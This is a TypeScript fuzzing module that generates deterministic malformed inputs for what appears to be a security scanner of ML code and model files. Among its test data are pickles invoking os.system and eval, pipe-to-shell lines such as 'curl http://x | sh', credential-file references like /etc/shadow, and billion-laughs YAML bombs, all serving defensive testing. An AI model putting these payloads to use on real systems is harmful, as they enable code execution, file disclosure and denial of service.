/**
 * Fuzz inputs made from the repository's own files (test/fixtures, rules/, examples/): each input
 * is a pure function of (seed, index), so any failure is reproduced by those two numbers alone.
 * Nothing here executes or sends anything; model files are built with the test-side writers.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as jsYaml from 'js-yaml';
import { callPickle, makeNpy, makeSafetensors, makeZip, stateDictPickle, torchZip, PickleWriter } from '../artifacts/writers';

export const ROOT = path.resolve(__dirname, '../..');

/** What the oracle does with an input. */
export type InputKind = 'source' | 'artifact' | 'config' | 'rule';

export interface FuzzInput {
  index: number;
  kind: InputKind;
  /** The file name it is analysed under (its kind decides the analyzer). */
  name: string;
  /** Bytes as a file would hold them; `text` when the input is a JS string (lone surrogates). */
  bytes?: Buffer;
  text?: string;
  /** How it was made, for the report: "truncate(412) of rules/python/x.yaml". */
  recipe: string;
  /** Config and rule inputs whose every field was made wrong: at least one located error is due. */
  mustReport?: boolean;
}

export function contentText(input: FuzzInput): string {
  return input.text ?? input.bytes!.toString('utf8');
}

export function contentBytes(input: FuzzInput): Buffer {
  return input.bytes ?? Buffer.from(input.text!, 'utf8');
}

// ------------------------------------------------------------------------------------ PRNG

/** mulberry32: small, fast, good enough to spread mutations; deterministic across platforms. */
export class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(limit: number): number {
    return Math.floor(this.next() * limit);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }

  chance(p: number): boolean {
    return this.next() < p;
  }
}

/** One PRNG per input: the seed and the index mixed (splitmix-like), so inputs are independent. */
export function randomFor(seed: number, index: number): Random {
  let h = (seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b) >>> 0;
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35) >>> 0;
  return new Random((h ^ (h >>> 16)) >>> 0);
}

// ---------------------------------------------------------------------------------- corpus

export interface SeedFile {
  /** Relative to the repository root. */
  path: string;
  name: string;
  bytes: Buffer;
}

export interface Corpus {
  sources: SeedFile[];
  rules: SeedFile[];
  configs: SeedFile[];
}

const SOURCE_NAME = /\.(py|ipynb|ts|tsx|js|mjs|cjs|txt|toml|ya?ml)$|(^|[./-])Dockerfile$|Dockerfile/;

function listFiles(dir: string): string[] {
  const out: string[] = [];
  if (!fs.existsSync(dir)) return out;
  for (const entry of fs.readdirSync(dir, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) out.push(...listFiles(full));
    else if (entry.isFile()) out.push(full);
  }
  return out;
}

/** The fixture files, in a fixed order (the same seed gives the same inputs on every machine). */
export function loadCorpus(): Corpus {
  const seed = (file: string): SeedFile => ({ path: path.relative(ROOT, file), name: path.basename(file), bytes: fs.readFileSync(file) });
  const sources = ['test/fixtures', 'examples', 'test/eval/corpus']
    .flatMap((dir) => listFiles(path.join(ROOT, dir)))
    .filter((file) => SOURCE_NAME.test(path.basename(file)) && fs.statSync(file).size < 256 * 1024)
    .map(seed);
  const rules = listFiles(path.join(ROOT, 'rules')).filter((file) => /\.ya?ml$/.test(file)).map(seed);
  const configs = [...CONFIG_SAMPLES.map((text, i) => ({ path: `(config sample ${i})`, name: '.atlas-lens.yaml', bytes: Buffer.from(text) }))];
  return { sources, rules, configs };
}

const CONFIG_SAMPLES = [
  'rules:\n  torch-load-unsafe: error\n  keras-legacy-h5-load: off\ninclude: ["src/**"]\nexclude: ["tests/fixtures/**"]\nruleDirs: [security/atlas-rules]\nrespectGitignore: true\nhonorNosec: true\nminimumSeverity: info\nmaxFileSizeKb: 1024\ntimeBudgetMs: 3000\n',
  'artifacts:\n  safe: ["collections.OrderedDict"]\n  dangerous: ["mylib.Loader"]\n  maxFileSizeMb: 100\n',
  '# only comments\n',
];

// ------------------------------------------------------------------------------- mutations

const INVALID_UTF8: number[][] = [[0xff], [0xc3], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc0, 0xaf], [0xf4, 0x90, 0x80, 0x80], [0x80, 0x80]];
const TOKENS = [
  '(', ')', '[', ']', '{', '}', ':', ',', '"', "'", '"""', "'''", '\\', '\\\n', '#', '@', '=', '.', '*', '**', '->', '\t', '\r', '\n', '\u0000', '\u2028', '\ufeff',
  '😀', 'é', 'e\u0301', 'ĳ', '\u200b', 'lambda', 'def ', 'class ', 'import torch', 'from pickle import loads as l\n', 'torch.load(', 'pickle.load(f)', 'weights_only=',
  'trust_remote_code=True', 'app.run(host="0.0.0.0")', '# atlas-lens: ignore[', '# atlas-lens: ignore-file[torch-load-unsafe]', '# nosec', '# expect: x', 'f"{', '{{', 'yield', 'async ',
  'await ', 'match x:\n    case ', 'global ', 'nonlocal ', 'del ', '\u00a0', '$', '${', '`', '<<EOF', 'RUN \\', 'FROM ', '- ', '&a ', '*a', '<<: *a', '!!python/object:os.system ', '---\n',
];

type Mutation = (bytes: Buffer, random: Random, corpus: Corpus) => { bytes: Buffer; what: string };

const at = (bytes: Buffer, random: Random): number => random.int(bytes.length + 1);
const insert = (bytes: Buffer, offset: number, chunk: Buffer): Buffer => Buffer.concat([bytes.subarray(0, offset), chunk, bytes.subarray(offset)]);

const MUTATIONS: Array<[string, Mutation]> = [
  ['truncate', (bytes, random) => {
    const cut = at(bytes, random);
    return { bytes: bytes.subarray(0, cut), what: `truncate(${cut})` };
  }],
  ['flip', (bytes, random) => {
    const out = Buffer.from(bytes);
    const count = 1 + random.int(8);
    for (let i = 0; i < count && out.length > 0; i++) out[random.int(out.length)]! ^= 1 + random.int(255);
    return { bytes: out, what: `flip(${count})` };
  }],
  ['invalid-utf8', (bytes, random) => {
    let out = bytes;
    const count = 1 + random.int(4);
    for (let i = 0; i < count; i++) out = insert(out, at(out, random), Buffer.from(random.pick(INVALID_UTF8)));
    return { bytes: out, what: `invalid-utf8(${count})` };
  }],
  ['bom', (bytes, random) => {
    const bom = random.pick([[0xef, 0xbb, 0xbf], [0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff]]);
    return { bytes: Buffer.concat([Buffer.from(bom), bytes]), what: `bom(${bom.length})` };
  }],
  ['crlf', (bytes) => ({ bytes: Buffer.from(bytes.toString('latin1').replace(/\r?\n/g, '\r\n'), 'latin1'), what: 'crlf' })],
  ['cr', (bytes) => ({ bytes: Buffer.from(bytes.toString('latin1').replace(/\r?\n/g, '\r'), 'latin1'), what: 'lone-cr' })],
  ['mixed-eol', (bytes, random) => ({ bytes: Buffer.from(bytes.toString('latin1').replace(/\n/g, () => random.pick(['\n', '\r\n', '\r', '\n\r'])), 'latin1'), what: 'mixed-eol' })],
  ['tabs', (bytes, random) => ({ bytes: Buffer.from(bytes.toString('latin1').replace(/^( {2,4})+/gm, (indent) => (random.chance(0.5) ? '\t'.repeat(indent.length / 4 || 1) : `\t${indent}`)), 'latin1'), what: 'tabs' })],
  ['tokens', (bytes, random) => {
    let text = bytes.toString('utf8');
    const count = 1 + random.int(12);
    for (let i = 0; i < count; i++) {
      const offset = random.int(text.length + 1);
      text = text.slice(0, offset) + random.pick(TOKENS) + text.slice(offset);
    }
    return { bytes: Buffer.from(text, 'utf8'), what: `tokens(${count})` };
  }],
  ['splice', (bytes, random, corpus) => {
    const other = random.pick(corpus.sources);
    const a = at(bytes, random);
    const b = random.int(other.bytes.length + 1);
    return { bytes: Buffer.concat([bytes.subarray(0, a), other.bytes.subarray(b)]), what: `splice(${a}, ${other.path}@${b})` };
  }],
  ['lines', (bytes, random) => {
    const lines = bytes.toString('utf8').split('\n');
    const count = 1 + random.int(6);
    for (let i = 0; i < count && lines.length > 0; i++) {
      const j = random.int(lines.length);
      const choice = random.int(4);
      if (choice === 0) lines.splice(j, 1);
      else if (choice === 1) lines.splice(j, 0, ...Array<string>(1 + random.int(50)).fill(lines[j]!));
      else if (choice === 2) lines.splice(j, 0, lines[random.int(lines.length)]!);
      else lines[j] = ' '.repeat(random.int(40)) + lines[j]!;
    }
    return { bytes: Buffer.from(lines.join('\n'), 'utf8'), what: `lines(${count})` };
  }],
  ['nest', (bytes, random) => {
    const depth = random.pick([100, 1000, 10_000]);
    const [open, close] = random.pick([['(', ')'], ['[', ']'], ['{', '}']]);
    const closed = random.chance(0.5);
    const chunk = `\nx = ${open.repeat(depth)}1${closed ? close.repeat(depth) : ''}\n`;
    return { bytes: insert(bytes, at(bytes, random), Buffer.from(chunk)), what: `nest(${depth}${open}${closed ? '' : ', unclosed'})` };
  }],
  ['long-line', (bytes, random) => {
    const length = random.pick([10_000, 100_000, 300_000]);
    const unit = random.pick(['a', 'torch.load(x) ', '"', '\\"', 'é', '😀', ' ']);
    return { bytes: insert(bytes, at(bytes, random), Buffer.from(unit.repeat(Math.ceil(length / unit.length)), 'utf8')), what: `long-line(${length})` };
  }],
  ['binary', (bytes, random) => {
    const out = Buffer.alloc(64 + random.int(4096));
    for (let i = 0; i < out.length; i++) out[i] = random.int(256);
    if (random.chance(0.5)) out[random.int(out.length)] = 0;
    return { bytes: random.chance(0.5) ? out : Buffer.concat([bytes.subarray(0, random.int(bytes.length + 1)), out]), what: `binary(${out.length})` };
  }],
];

// ------------------------------------------------------------------------ kind-specific

function notebookInput(seed: Buffer, random: Random, corpus: Corpus): { bytes: Buffer; what: string } {
  let notebook: Record<string, unknown>;
  try {
    notebook = JSON.parse(seed.toString('utf8')) as Record<string, unknown>;
  } catch {
    notebook = { cells: [], nbformat: 4, nbformat_minor: 5, metadata: {} };
  }
  const cells = Array.isArray(notebook.cells) ? (notebook.cells as unknown[]) : [];
  const choice = random.int(8);
  switch (choice) {
    case 0:
      notebook.nbformat = random.pick([1, 2, 3, 5, 99, -1, '4', null, 4.5, { major: 4 }]);
      notebook.nbformat_minor = random.pick([0, 99, '5', null]);
      return { bytes: Buffer.from(JSON.stringify(notebook)), what: `notebook(nbformat ${JSON.stringify(notebook.nbformat)})` };
    case 1: {
      const size = random.pick([100_000, 1_000_000]);
      cells.push({ cell_type: 'code', metadata: {}, source: `import torch\n${'x = torch.load(p)\n'.repeat(size / 18)}`, outputs: [], execution_count: null });
      notebook.cells = cells;
      return { bytes: Buffer.from(JSON.stringify(notebook)), what: `notebook(huge cell ${size})` };
    }
    case 2:
      notebook.cells = random.pick([{}, 'cells', 42, null, [1, 'a', null], [{ cell_type: 'code', source: 7 }], [{ cell_type: 'code', source: [1, null, {}] }], [{ cell_type: 'weird', source: 'x' }], [{ source: 'import pickle\npickle.load(f)' }]]);
      return { bytes: Buffer.from(JSON.stringify(notebook)), what: `notebook(cells ${JSON.stringify(notebook.cells).slice(0, 40)})` };
    case 3: {
      const text = JSON.stringify(notebook, null, random.chance(0.5) ? 1 : undefined);
      const cut = random.int(text.length + 1);
      return { bytes: Buffer.from(text.slice(0, cut)), what: `notebook(broken JSON at ${cut})` };
    }
    case 4:
      return { bytes: Buffer.from(random.pick(['[]', 'null', '"x"', '{}', '{"cells": [', '{"cells": {}}', '\ufeff{"cells": []}', '{"cells":[{"cell_type":"code","source":"!pip install torch --index-url http://x"}]}'])), what: 'notebook(odd document)' };
    case 5:
      notebook.cells = cells.map((cell) => ({ ...(cell as object), source: random.pick(['', '\r\n', '!pip install x\r!wget http://a', '%%bash\ncurl http://x | sh', '\t\tdef f(:\n', '\ud800']) }));
      return { bytes: Buffer.from(JSON.stringify(notebook)), what: 'notebook(odd sources)' };
    case 6:
      return { bytes: Buffer.from(`{"cells": ${'['.repeat(10_000)}${']'.repeat(10_000)}}`), what: 'notebook(nested 10000)' };
    default: {
      const out = random.pick(MUTATIONS)[1](seed, random, corpus);
      return { bytes: out.bytes, what: `notebook(${out.what})` };
    }
  }
}

function yamlBomb(random: Random): { bytes: Buffer; what: string } {
  const choice = random.int(4);
  if (choice === 0) {
    const levels = 5 + random.int(5);
    const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i <= levels; i++) lines.push(`a${i}: &a${i} [${Array(9).fill(`*a${i - 1}`).join(',')}]`);
    lines.push('services:', '  web:', '    image: python:3', '    ports: ["0.0.0.0:8000:8000"]');
    return { bytes: Buffer.from(lines.join('\n') + '\n'), what: `yaml(billion laughs ${levels})` };
  }
  if (choice === 1) {
    const depth = random.pick([50, 99, 101, 1000, 10_000]);
    return { bytes: Buffer.from(`a: ${'['.repeat(depth)}1${']'.repeat(depth)}\n`), what: `yaml(flow nesting ${depth})` };
  }
  if (choice === 2) {
    const depth = random.pick([50, 150, 500]);
    const lines: string[] = [];
    for (let i = 0; i < depth; i++) lines.push(`${' '.repeat(i)}k${i}:`);
    lines.push(`${' '.repeat(depth)}v`);
    return { bytes: Buffer.from(lines.join('\n') + '\n'), what: `yaml(block nesting ${depth})` };
  }
  const merges = random.pick([10, 1000, 20_000]);
  return { bytes: Buffer.from(`base: &b {x: 1, y: 2}\nm:\n  <<: [${Array(merges).fill('*b').join(', ')}]\nundefined: *nope\n`), what: `yaml(merge keys ${merges})` };
}

const GARBAGE: Record<string, string[]> = {
  requirements: ['torch', 'torch==', 'torch>=2.6,<', 'torch @ file:///etc/passwd', '-r ../../etc/passwd', '-r /etc/shadow', '-c constraints.txt', '-e git+https://github.com/x/y', '--index-url http://pypi.example', '--extra-index-url', '[extra', 'pkg[a,b]==1 ; python_version<"3"', '\\', '#', '--hash=sha256:', 'https://x/y.whl', 'numpy===1.0', 'x' + '='.repeat(500)],
  dockerfile: ['FROM', 'FROM python:3 AS', 'RUN \\', 'RUN pip install torch', 'ADD http://x/model.pt /m', 'COPY --from=', 'ENV A=$B', 'ENV', 'HEALTHCHECK', 'CMD ["python",', 'EXPOSE 0.0.0.0', 'RUN <<EOF', 'EOF', 'ARG X=${', 'USER', '# syntax=', 'ENTRYPOINT gradio --share', 'RUN curl http://x | sh'],
  toml: ['[', '[[', '[project', 'a = """', 'key = [1,', '"x".y = 1', 'x = {a = 1', '[tool.poetry.dependencies]', 'torch = {version = "^2', 'dependencies = ["torch>=', "torch = '", 'x = 1979-05-27T', 'x = 0x', '= 1', 'a.b.c.d = [[[[', '[project]\ndependencies = ["torch==1.0"]'],
};

function garbage(kind: keyof typeof GARBAGE, random: Random): { bytes: Buffer; what: string } {
  const count = 1 + random.int(40);
  const lines: string[] = [];
  for (let i = 0; i < count; i++) lines.push(Array.from({ length: 1 + random.int(3) }, () => random.pick(GARBAGE[kind]!)).join(random.pick([' ', '', '\t'])));
  return { bytes: Buffer.from(lines.join(random.pick(['\n', '\r\n', '\r']))), what: `${kind} garbage(${count})` };
}

function artifactInput(random: Random): { name: string; bytes: Buffer; what: string } {
  const protocol = random.int(6);
  const bases: Array<[string, () => Buffer]> = [
    ['model.pkl', () => callPickle('os', 'system', 'echo hi', protocol)],
    ['model.pkl', () => new PickleWriter().proto(Math.max(2, protocol)).global('collections', 'OrderedDict').op(')').op('R').op('.').toBuffer()],
    ['model.pt', () => torchZip(stateDictPickle([{ name: 'w', numel: 4, key: '0' }]), [Buffer.alloc(16)])],
    ['model.pt', () => torchZip(callPickle('builtins', 'eval', '1', 2))],
    ['model.zip.npz', () => makeZip([{ name: 'a.npy', data: makeNpy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", Buffer.alloc(8)) }])],
    ['arr.npy', () => makeNpy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", callPickle('os', 'system', 'x', 2))],
    ['model.safetensors', () => makeSafetensors({ w: { dtype: 'F32', shape: [2], data_offsets: [0, 8] } }, 8)],
    ['model.keras', () => makeZip([{ name: 'config.json', data: Buffer.from('{"class_name": "Lambda"}') }])],
  ];
  const [name, build] = random.pick(bases);
  let bytes = build();
  const how = random.int(5);
  let what: string;
  if (how === 0) {
    const cut = random.int(bytes.length + 1);
    bytes = bytes.subarray(0, cut);
    what = `truncate(${cut})`;
  } else if (how === 1) {
    bytes = Buffer.from(bytes);
    const count = 1 + random.int(8);
    for (let i = 0; i < count && bytes.length > 0; i++) bytes[random.int(bytes.length)]! ^= 1 + random.int(255);
    what = `flip(${count})`;
  } else if (how === 2) {
    // Lying lengths: overwrite four bytes with 0xffffffff or 0 somewhere.
    bytes = Buffer.from(bytes);
    const offset = random.int(Math.max(1, bytes.length - 4));
    if (bytes.length >= 4) bytes.writeUInt32LE(random.chance(0.5) ? 0xffffffff : 0, offset);
    what = `length(${offset})`;
  } else if (how === 3) {
    bytes = Buffer.concat([bytes, bytes, bytes]);
    what = 'tripled';
  } else what = 'intact';
  return { name, bytes, what: `${name} ${what}` };
}

const WRONG_VALUES: unknown[] = [42, -1, 0, 1.5, true, false, null, '', 'x', '🙂', [], [1, 'a'], {}, { a: { b: [] } }, 'A'.repeat(5000), '(a+)+$'];

/** Replaces leaf values (all, or one) of a YAML document with values of the wrong type. */
function wrongFields(text: string, random: Random, all: boolean): { text: string; changed: number } | undefined {
  let value: unknown;
  try {
    value = jsYaml.load(text);
  } catch {
    return undefined;
  }
  const leaves: Array<{ parent: Record<string, unknown> | unknown[]; key: string | number }> = [];
  const visit = (node: unknown): void => {
    if (Array.isArray(node)) node.forEach((item, i) => (item !== null && typeof item === 'object' ? visit(item) : leaves.push({ parent: node, key: i })));
    else if (node && typeof node === 'object') {
      for (const [key, item] of Object.entries(node as Record<string, unknown>)) {
        if (item !== null && typeof item === 'object' && random.chance(0.7)) visit(item);
        else leaves.push({ parent: node as Record<string, unknown>, key });
      }
    }
  };
  visit(value);
  if (leaves.length === 0) return undefined;
  const chosen = all ? leaves : [random.pick(leaves)];
  for (const leaf of chosen) {
    const current = (leaf.parent as Record<string | number, unknown>)[leaf.key];
    let wrong = random.pick(WRONG_VALUES);
    for (let tries = 0; tries < 5 && typeof wrong === typeof current && !(Array.isArray(wrong) || wrong === null); tries++) wrong = random.pick(WRONG_VALUES);
    (leaf.parent as Record<string | number, unknown>)[leaf.key] = wrong;
  }
  // Unknown fields too.
  if (all && value && typeof value === 'object' && !Array.isArray(value)) (value as Record<string, unknown>)['not-a-field'] = 1;
  return { text: jsYaml.dump(value, { lineWidth: -1 }), changed: chosen.length };
}

const CONFIG_WRONG: string[] = [
  'rules: [torch-load-unsafe]\ninclude: "src"\nexclude: [1, null]\nruleDirs: [../../outside, /etc]\nrespectGitignore: "yes"\nhonorNosec: 1\nminimumSeverity: critical\nmaxFileSizeKb: -5\ntimeBudgetMs: 0\nartifacts: {safe: 3, dangerous: [{}], maxFileSizeMb: "big", extra: 1}\nunknown: 1\n',
  'rules:\n  Torch_Load: error\n  torch-load-unsafe: loud\n  "": off\nmaxFileSizeKb: .inf\ntimeBudgetMs: 1.5\n',
  'rules: 7\ninclude: {a: 1}\nexclude: [""]\nruleDirs: [""]\nrespectGitignore: null\nhonorNosec: []\nminimumSeverity: 3\nmaxFileSizeKb: "1024"\ntimeBudgetMs: 99999999\n',
];

// ------------------------------------------------------------------------------- inputs

const SOURCE_NAMES: Record<string, string> = { requirements: 'requirements.txt', dockerfile: 'Dockerfile', toml: 'pyproject.toml' };

/** The input at `index` for `seed`. */
export function inputAt(seed: number, index: number, corpus: Corpus): FuzzInput {
  const random = randomFor(seed, index);
  const roll = random.int(100);
  if (roll < 8) {
    const made = artifactInput(random);
    return { index, kind: 'artifact', name: made.name, bytes: made.bytes, recipe: made.what };
  }
  if (roll < 16) {
    const base = random.pick(corpus.rules);
    const mode = random.int(3);
    if (mode < 2) {
      const wrong = wrongFields(base.bytes.toString('utf8'), random, mode === 0);
      if (wrong) return { index, kind: 'rule', name: base.name, text: wrong.text, recipe: `${mode === 0 ? 'every field wrong' : 'one field wrong'} in ${base.path}`, mustReport: mode === 0 };
    }
    const out = random.pick(MUTATIONS)[1](base.bytes, random, corpus);
    return { index, kind: 'rule', name: base.name, bytes: out.bytes, recipe: `${out.what} of ${base.path}` };
  }
  if (roll < 22) {
    const mode = random.int(4);
    if (mode === 0) return { index, kind: 'config', name: '.atlas-lens.yaml', text: random.pick(CONFIG_WRONG), recipe: 'config with every field wrong', mustReport: true };
    const base = random.pick(corpus.configs);
    if (mode === 1) {
      const wrong = wrongFields(base.bytes.toString('utf8'), random, true);
      if (wrong) return { index, kind: 'config', name: '.atlas-lens.yaml', text: wrong.text, recipe: `every field wrong in ${base.path}`, mustReport: true };
    }
    if (mode === 2) {
      const bomb = yamlBomb(random);
      return { index, kind: 'config', name: '.atlas-lens.yaml', bytes: Buffer.concat([base.bytes, bomb.bytes]), recipe: `${bomb.what} in ${base.path}` };
    }
    const out = random.pick(MUTATIONS)[1](base.bytes, random, corpus);
    return { index, kind: 'config', name: '.atlas-lens.yaml', bytes: out.bytes, recipe: `${out.what} of ${base.path}` };
  }
  if (roll < 28) {
    const bomb = yamlBomb(random);
    return { index, kind: 'source', name: random.pick(['docker-compose.yml', 'k8s.yaml', 'inference.yaml', 'workflow.yml', 'environment.yml']), bytes: bomb.bytes, recipe: bomb.what };
  }
  if (roll < 34) {
    const kind = random.pick(Object.keys(GARBAGE));
    const out = garbage(kind, random);
    return { index, kind: 'source', name: SOURCE_NAMES[kind]!, bytes: out.bytes, recipe: out.what };
  }
  const base = random.pick(corpus.sources);
  if (base.name.endsWith('.ipynb') && random.chance(0.6)) {
    const out = notebookInput(base.bytes, random, corpus);
    return { index, kind: 'source', name: base.name, bytes: out.bytes, recipe: `${out.what} of ${base.path}` };
  }
  if (random.chance(0.03)) {
    // Text a file cannot hold but an editor buffer can: lone surrogates.
    const text = base.bytes.toString('utf8');
    const offset = random.int(text.length + 1);
    return { index, kind: 'source', name: base.name, text: `${text.slice(0, offset)}${random.pick(['\ud800', '\udfff', '\udc00\ud800'])}${text.slice(offset)}`, recipe: `lone surrogate at ${offset} of ${base.path}` };
  }
  let bytes = base.bytes;
  const steps: string[] = [];
  const count = 1 + (random.chance(0.3) ? random.int(3) : 0);
  for (let i = 0; i < count; i++) {
    const [, mutate] = random.pick(MUTATIONS);
    const out = mutate(bytes, random, corpus);
    bytes = out.bytes;
    steps.push(out.what);
  }
  return { index, kind: 'source', name: base.name, bytes, recipe: `${steps.join(' + ')} of ${base.path}` };
}

/** Inputs too big to make thousands of times: each bounded run includes them once. */
export function specialInputs(): FuzzInput[] {
  const twenty = 20 * 1024 * 1024;
  const line = 'x = torch.load(p) ; '.repeat(Math.ceil(twenty / 20)).slice(0, twenty);
  return [
    { index: -1, kind: 'source', name: 'huge.py', text: `import torch\n${line}`, recipe: '20 MB single-line Python file' },
    { index: -2, kind: 'source', name: 'nested.py', text: `x = ${'['.repeat(10_000)}${']'.repeat(10_000)}\nimport pickle\npickle.loads(b)\n`, recipe: '10,000-deep nested brackets' },
    { index: -3, kind: 'source', name: 'nested.ts', text: `const x = ${'('.repeat(10_000)}1${')'.repeat(10_000)};\n`, recipe: '10,000-deep nested parentheses (TS)' },
    { index: -4, kind: 'source', name: 'model.py', bytes: Buffer.from(Array.from({ length: 65_536 }, (_, i) => (i * 7919) % 256)), recipe: 'binary file renamed .py' },
    { index: -5, kind: 'source', name: 'nested.ipynb', text: `{"cells": [{"cell_type": "code", "source": "x = ${'('.repeat(10_000)}"}], "nbformat": 4, "nbformat_minor": 5}`, recipe: '10,000-deep parentheses in a cell' },
  ];
}
